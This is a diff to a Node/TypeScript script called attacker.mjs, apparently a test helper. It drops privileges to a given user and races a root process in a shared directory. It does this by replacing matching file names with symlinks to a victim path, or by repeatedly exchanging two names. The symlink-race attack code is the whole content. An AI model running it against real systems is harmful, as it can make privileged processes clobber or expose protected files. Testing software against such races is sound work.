@@ -1,14 +1,16 @@
 /**
- * `node attacker.mjs FOLDER VICTIM UID`: a user who owns the folder in which root makes a map. As fast as it can it puts
- * links to the victim in the place of every temporary file that appears there.
+ * A user who owns the directory in which root works, as fast as it can:
+ *
+ * `node attacker.mjs replace UID DIRECTORY PATTERN VICTIM` puts a link to the victim in the place of every name that matches;
+ * `node attacker.mjs exchange UID DIRECTORY ONE OTHER` exchanges two names.
  */
-import { readdirSync, symlinkSync, unlinkSync } from 'node:fs';
-import { join } from 'node:path';
+import { readdirSync, renameSync, symlinkSync } from 'node:fs';
 
-const [folder, victim, uid] = process.argv.slice(2) as [string, string, string];
+const [action, uid, directory, first, second] = process.argv.slice(2) as [string, string, string, string, string];
 process.setgroups?.([]);
 process.setgid?.(Number(uid));
 process.setuid?.(Number(uid));
+process.chdir(directory);
 
 let swapped = 0;
 process.on('SIGTERM', () => {
@@ -16,24 +18,44 @@ process.on('SIGTERM', () => {
   process.exit(0);
 });
 
-function swap(): void {
-  for (const name of readdirSync(folder)) {
-    // Not the tickets: without its own, a writer stops before it writes.
-    if (!/^\.access.*\.new$/.test(name)) continue;
-    const path = join(folder, name);
-    try {
-      unlinkSync(path);
-      symlinkSync(victim, path);
-      swapped++;
-    } catch {
-      // It went away by itself.
-    }
+function replace(): void {
+  for (const name of readdirSync('.')) {
+    if (!new RegExp(first).test(name)) continue;
+    renameSync(name, `taken${swapped}`);
+    symlinkSync(second, name);
+    swapped++;
   }
 }
 
+function exchange(): void {
+  renameSync(first, 'between');
+  renameSync(second, first);
+  renameSync('between', second);
+  swapped++;
+}
+
 function round(): void {
-  for (let i = 0; i < 50; i++) swap();
+  for (let i = 0; i < 50; i++) {
+    try {
+      if (action === 'replace') replace();
+      else exchange();
+    } catch {
+      // It went away by itself, or stands there again.
+      if (action === 'exchange') putBack();
+    }
+  }
   setImmediate(round);
+}
+
+/** The name that a run has made again meanwhile keeps the place that is free. */
+function putBack(): void {
+  for (const to of [first, second]) {
+    try {
+      renameSync('between', to);
+    } catch {
+      // nothing is between
+    }
+  }
 }
 console.log('ready');
 round();
